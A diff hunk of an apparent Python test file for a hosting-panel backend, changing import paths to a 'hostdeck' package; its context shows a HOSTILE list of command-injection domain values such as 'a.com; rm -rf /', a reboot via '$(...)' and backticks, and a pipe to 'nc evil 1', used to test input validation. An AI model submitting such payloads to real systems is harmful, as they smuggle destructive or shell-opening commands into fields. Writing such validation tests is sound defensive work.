@@ -9,11 +9,11 @@ import pytest
 from hypothesis import HealthCheck, event, given, settings
 from hypothesis import strategies as st
 
-from backends.cloudpanel import commands, validate
-from backends.cloudpanel.commands import mask_text
-from backends.cloudpanel.spec import SiteSpec, new_password
-from backends.errors import ValidationError
-from backends.sim.cloudpanel import UnsafeLine, split_line
+from hostdeck.backends.cloudpanel import commands, validate
+from hostdeck.backends.cloudpanel.commands import mask_text
+from hostdeck.backends.cloudpanel.spec import SiteSpec, new_password
+from hostdeck.backends.errors import ValidationError
+from hostdeck.backends.sim.cloudpanel import UnsafeLine, split_line
 
 HOSTILE = [
     "a.com; rm -rf /", "a.com && reboot", "a.com | nc evil 1", "$(reboot).com", "`reboot`.com", "a.com\nreboot",
